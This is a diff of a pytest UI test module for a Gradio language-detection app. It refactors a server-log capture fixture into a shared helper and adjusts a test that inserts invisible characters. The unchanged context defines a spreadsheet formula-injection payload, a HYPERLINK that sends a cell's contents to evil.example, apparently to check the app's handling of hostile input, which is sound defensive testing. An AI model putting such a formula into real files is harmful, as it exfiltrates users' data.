@@ -28,7 +28,7 @@ gradio_client = pytest.importorskip("gradio_client")
 from gradio_client import handle_file  # noqa: E402
 
 from tests.conftest import services_with  # noqa: E402
-from tests.ui.conftest import launch, output_value  # noqa: E402
+from tests.ui.conftest import captured_server_log, launch, output_value  # noqa: E402
 from tests.ui.test_bad_input import FILL, refused, still_serving  # noqa: E402
 from tests.ui.test_finetune_tab import _form  # noqa: E402
 from xling.config import REPO_ROOT  # noqa: E402
@@ -36,41 +36,10 @@ from xling.config import REPO_ROOT  # noqa: E402
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-class ServerLog:
-    """What the app's process writes to stderr and logs at WARNING or above while the module runs."""
-
-    def __init__(self) -> None:
-        self.lines: list[str] = []
-        self._lock = threading.Lock()
-
-    def write(self, text: str) -> int:
-        with self._lock:
-            self.lines.append(text)
-        return len(text)
-
-    def flush(self) -> None:
-        pass
-
-    def text(self) -> str:
-        with self._lock:
-            return "".join(self.lines)
-
-
 @pytest.fixture(scope="module")
 def server_log():
-    import logging
-
-    log = ServerLog()
-    handler = logging.StreamHandler(log)
-    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
-    handler.setLevel(logging.WARNING)
-    logging.getLogger().addHandler(handler)
-    stderr, sys.stderr = sys.stderr, log  # traceback.print_exc writes to sys.stderr as it is then
-    try:
+    with captured_server_log() as log:
         yield log
-    finally:
-        sys.stderr = stderr
-        logging.getLogger().removeHandler(handler)
 
 
 @pytest.fixture(scope="module")
@@ -320,7 +289,7 @@ def test_text_without_letters_has_no_language(client, text, found):
 
 def test_invisible_characters_do_not_change_the_answer(client):
     plain, *_ = client.predict("Das ist ein kleines Haus am See.", "tiny-xling", api_name="/detect")
-    hidden, *_ = client.predict("\u200b".join("Das ist ein kleines Haus am See.".split(" ")).replace("Haus", "Ha\u00adus"),
+    hidden, *_ = client.predict("\u200b ".join("Das ist ein kleines Haus am See.".split(" ")).replace("Haus", "Ha\u00adus"),
                                 "tiny-xling", api_name="/detect")
     assert hidden == plain and "German" in plain  # the model reads the same text
 
